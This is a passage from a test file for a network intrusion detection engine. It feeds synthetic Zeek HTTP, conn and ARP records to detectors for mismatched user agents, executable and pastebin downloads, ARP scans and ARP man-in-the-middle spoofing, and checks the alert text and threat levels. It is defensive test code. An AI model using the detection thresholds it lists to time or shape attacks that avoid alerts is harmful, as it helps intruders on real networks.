  const iphone = parseUserAgent('Mozilla/5.0 (iPhone; CPU iPhone OS 14_0 like Mac OS X) AppleWebKit/605.1.15 Version/14.0 Mobile/15E148 Safari/604.1');
  t.deepEqual([iphone.os_type, iphone.os_name, iphone.browser], ['iOS', 'iPhone OS 14_0', 'Safari']);
  const android = parseUserAgent('Mozilla/5.0 (Linux; Android 10; K) Chrome/114.0 Mobile Safari/537.36');
  t.deepEqual([android.os_type, android.os_name], ['Android', 'Android 10']);
  t.deepEqual(parseUserAgent('Microsoft-CryptoAPI/6.1'), { user_agent: 'Microsoft-CryptoAPI/6.1', os_name: '', os_type: '', browser: '' });
});

test('INCOMPATIBLE_USER_AGENT: MAC vendor family against the user agent OS, vendor words matched whole', (t) => {
  const windows = parseUserAgent('Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0 Safari/537.36');
  t.true(isIncompatibleUserAgent(windows, 'Apple, Inc.'));
  t.false(isIncompatibleUserAgent(windows, 'Intel Corporate'));
  t.false(isIncompatibleUserAgent(windows, 'Microsoft Corporation'));
  t.true(isIncompatibleUserAgent(parseUserAgent('Mozilla/5.0 (Macintosh) Version/16.1 Safari/605.1.15'), 'Dell Inc.'));
  const dir = tempConfig({ 'macaddress-db.json': JSON.stringify([{ macPrefix: '00:1B:63', vendorName: 'APPLE, INC.' }]) });
  const harness = new DetectionHarness([httpAnalyzerDetector], dir);
  harness.feed(http({ user_agent: windows.user_agent }));
  t.is(harness.ofType('INCOMPATIBLE_USER_AGENT').length, 0);
  harness.feed(conn({ smac: '00:1b:63:01:02:03' }), http({ ts: T0 + 1, uri: '/x' }), http({ ts: T0 + 2 }));
  const [incompatible, ...rest] = harness.ofType('INCOMPATIBLE_USER_AGENT');
  t.is(rest.length, 0);
  t.is(incompatible?.description,
    `using incompatible user-agent (${windows.user_agent}) that belongs to OS: windows nt 10.0 type: windows browser: chrome. ` +
    'while connecting to example.com/x. IP has MAC vendor: Apple, inc.');
  t.deepEqual([incompatible?.attacker, incompatible?.threat_level, incompatible?.confidence], [SRC('10.0.0.5'), 'high', 1]);
});

test('EXECUTABLE_MIME_TYPE: a LOW pair; application/octet-stream is not an executable', (t) => {
  const harness = new DetectionHarness([httpAnalyzerDetector]);
  harness.feed(http({ resp_mime_types: ['application/octet-stream'] }), http({ resp_mime_types: ['text/plain'] }));
  t.is(harness.ofType('EXECUTABLE_MIME_TYPE').length, 0);
  harness.feed(http({ saddr: '10.0.2.15', daddr: '147.32.80.7', resp_mime_types: ['application/x-dosexec'] }));
  const pair = harness.ofType('EXECUTABLE_MIME_TYPE');
  t.is(pair[0]?.description, "Download of an executable with MIME type: ['application/x-dosexec'] by 10.0.2.15 from 147.32.80.7.");
  t.deepEqual([pair[0]?.attacker, pair[1]?.attacker, pair[0]?.threat_level, pair[1]?.threat_level, pair[0]?.confidence],
    [SRC('10.0.2.15'), DST('147.32.80.7'), 'low', 'low', 1]);
});

test('PASTEBIN_DOWNLOAD over HTTP: GET of more than 700 bytes', (t) => {
  const harness = new DetectionHarness([httpAnalyzerDetector]);
  harness.feed(http({ host: 'pastebin.com', response_body_len: 2048, method: 'POST' }),
    http({ host: 'pastebin.com', response_body_len: 700 }), http({ host: 'example.com', response_body_len: 5000 }));
  t.is(harness.ofType('PASTEBIN_DOWNLOAD').length, 0);
  harness.feed(http({ host: 'pastebin.com', response_body_len: 2048 }));
  const [paste] = harness.ofType('PASTEBIN_DOWNLOAD');
  t.is(paste?.description, 'A downloaded file from pastebin.com. Size: 0.002048 MBs');
  t.deepEqual([paste?.attacker, paste?.threat_level, paste?.confidence], [SRC('10.0.0.5'), 'info', 1]);
});

test('HTTP_TRAFFIC: once per profile, TW and server', (t) => {
  const harness = new DetectionHarness([httpAnalyzerDetector]);
  harness.feed(http(), http({ uid: 'H2' }), http({ daddr: '5.6.7.8' }));
  const traffic = harness.ofType('HTTP_TRAFFIC');
  t.deepEqual(traffic.map((e) => e.description),
    ['Unencrypted HTTP traffic from 10.0.0.5 to 1.2.3.4.', 'Unencrypted HTTP traffic from 10.0.0.5 to 5.6.7.8.']);
  t.deepEqual([traffic[0]?.attacker, traffic[0]?.victim, traffic[0]?.threat_level], [SRC('10.0.0.5'), DST('1.2.3.4'), 'info']);
});

test('WEIRD_HTTP_METHOD: weird.log joined with the conn flow of the same uid', (t) => {
  const harness = new DetectionHarness([httpAnalyzerDetector]);
  harness.feed(conn({ uid: 'W1' }), weird({ name: 'DNS_TXT_char_str_past_rdlen' }), weird({ uid: 'Wx' }),
    conn({ ts: T0 + 100, uid: 'Wx' }));
  t.is(harness.ofType('WEIRD_HTTP_METHOD').length, 0);
  harness.feed(weird({ ts: T0 + 101 }));
  const [method] = harness.ofType('WEIRD_HTTP_METHOD');
  t.is(method?.description, 'Weird HTTP method FOO to IP: 1.2.3.4. by Zeek.');
  t.deepEqual([method?.attacker, method?.victim, method?.threat_level, method?.confidence, method?.timestamp, method?.uid],
    [SRC('10.0.0.5'), DST('1.2.3.4'), 'medium', 0.9, T0 + 101, ['W1']]);
});

// ---------------------------------------------------------------- ARP

test('ARP_SCAN: 5 targets first asked for within 30 s; slower requests do not add up', (t) => {
  const harness = new DetectionHarness([arpDetector]);
  harness.feed(...Array.from({ length: 5 }, (_, i) => arp({ ts: T0 + i * 10, daddr: `192.168.1.${100 + i}` })));
  t.is(harness.ofType('ARP_SCAN').length, 0);
  harness.feed(...Array.from({ length: 5 }, (_, i) => arp({ ts: T0 + 100 + i, uid: `R${i}`, daddr: `192.168.1.${i + 1}` })));
  const [scan] = harness.ofType('ARP_SCAN');
  t.is(scan?.description, 'performing an arp scan. Confidence 0.8.');
  t.deepEqual([scan?.attacker, scan?.threat_level, scan?.confidence, scan?.timestamp], [SRC('192.168.1.15'), 'low', 0.8, T0 + 104]);
  t.is(scan?.uid.length, 5);
  harness.feed(...Array.from({ length: 5 }, (_, i) => arp({ ts: T0 + 106 + i, daddr: `192.168.1.${i + 30}` })));
  t.is(harness.ofType('ARP_SCAN').length, 1);
  harness.feed(arp({ ts: T0 + 115, daddr: '192.168.1.40' }));
  t.is(harness.ofType('ARP_SCAN').length, 2);
});

test('ARP_OUTSIDE_LOCALNET: CIDR test against the local network (learned, else the sender\'s RFC1918 block)', (t) => {
  const harness = new DetectionHarness([arpDetector]);
  harness.feed(arp({ daddr: '192.168.200.1' }), arp({ daddr: '224.0.0.1' }), arp({ daddr: '169.254.1.1' }),
    arp({ saddr: '0.0.0.0', daddr: '8.8.8.8' }), arp({ operation: 'reply', daddr: '8.8.8.8', dst_hw: 'aa:aa:aa:aa:aa:02' }));
  t.is(harness.ofType('ARP_OUTSIDE_LOCALNET').length, 0);
  harness.feed(arp({ daddr: '69.220.152.0', dst_hw: '30:30:30:30:30:30' }));
  const [outside] = harness.ofType('ARP_OUTSIDE_LOCALNET');
  t.is(outside?.description, '192.168.1.15 sending ARP packet to a destination address outside of local network: 69.220.152.0. ');
  t.deepEqual([outside?.attacker, outside?.victim, outside?.threat_level, outside?.confidence], [SRC('192.168.1.15'), DST('69.220.152.0'), 'low', 0.6]);
  const learned = new DetectionHarness([arpDetector]);
  learned.knowledge.setLocalNetwork('10.0.0.0/8');
  learned.feed(arp({ saddr: '10.0.0.5', daddr: '10.1.2.3' }), arp({ saddr: '10.0.0.5', daddr: '100.64.1.1' }));
  t.deepEqual(learned.ofType('ARP_OUTSIDE_LOCALNET').map((e) => e.victim?.value), ['100.64.1.1']);
});

test('UNSOLICITED_ARP: a broadcast reply from a real MAC', (t) => {
  const harness = new DetectionHarness([arpDetector]);
  const broadcast = { operation: 'reply', dst_hw: 'ff:ff:ff:ff:ff:ff', dmac: 'ff:ff:ff:ff:ff:ff' };
  harness.feed(arp({ ...broadcast, smac: '00:00:00:00:00:00' }), arp({ ...broadcast, dmac: 'aa:aa:aa:aa:aa:09' }),
    arp({ ...broadcast, operation: 'request' }));
  t.is(harness.ofType('UNSOLICITED_ARP').length, 0);
  harness.feed(arp(broadcast));
  const [unsolicited] = harness.ofType('UNSOLICITED_ARP');
  t.is(unsolicited?.description, 'broadcasting unsolicited ARP');
  t.deepEqual([unsolicited?.attacker, unsolicited?.threat_level, unsolicited?.confidence], [SRC('192.168.1.15'), 'low', 0.8]);
});

test('MITM_ARP_ATTACK: a gratuitous reply claiming a MAC first seen with another IP; gateway wording', (t) => {
  const harness = new DetectionHarness([arpDetector]);
  const gratuitous = { operation: 'reply', dst_hw: 'ff:ff:ff:ff:ff:ff', smac: 'aa:aa:aa:aa:aa:05', src_hw: 'aa:aa:aa:aa:aa:05' };
  harness.feed(arp({ ...gratuitous, saddr: '192.168.1.5' }), conn({ saddr: '192.168.1.5', smac: 'aa:aa:aa:aa:aa:05' }),
    arp({ ...gratuitous, saddr: '192.168.1.5' }));
  t.is(harness.ofType('MITM_ARP_ATTACK').length, 0);
  harness.feed(arp({ ...gratuitous, saddr: '192.168.1.66' }), arp({ ...gratuitous, saddr: '192.168.1.66' }));
  const [mitm, ...rest] = harness.ofType('MITM_ARP_ATTACK');
  t.is(rest.length, 0);
  t.is(mitm?.description, '192.168.1.66 performing a MITM ARP attack. The MAC aa:aa:aa:aa:aa:05, now belonging to 192.168.1.66, was seen before for IP 192.168.1.5.');
  t.deepEqual([mitm?.attacker, mitm?.victim, mitm?.threat_level, mitm?.confidence], [SRC('192.168.1.66'), DST('192.168.1.5'), 'critical', 0.2]);
  const gateway = new DetectionHarness([arpDetector]);
  gateway.knowledge.setGatewayIp('192.168.1.1');
  gateway.feed(conn({ saddr: '192.168.1.1', smac: 'aa:aa:aa:aa:aa:01' }), conn({ saddr: '192.168.1.66', smac: 'aa:aa:aa:aa:aa:66' }),
    arp({ ...gratuitous, saddr: '192.168.1.66', smac: 'aa:aa:aa:aa:aa:01' }),
    arp({ ...gratuitous, saddr: '192.168.1.1', smac: 'aa:aa:aa:aa:aa:66' }));
  t.deepEqual(gateway.ofType('MITM_ARP_ATTACK').map((e) => e.description), [
    '192.168.1.66 performing a MITM ARP attack. The MAC of the gateway aa:aa:aa:aa:aa:01, now belonging to 192.168.1.66, was seen before for IP 192.168.1.1.',
    'The gateway 192.168.1.1 performing a MITM ARP attack. The MAC aa:aa:aa:aa:aa:66, now belonging to The gateway 192.168.1.1, was seen before for IP 192.168.1.66.',
  ]);
});
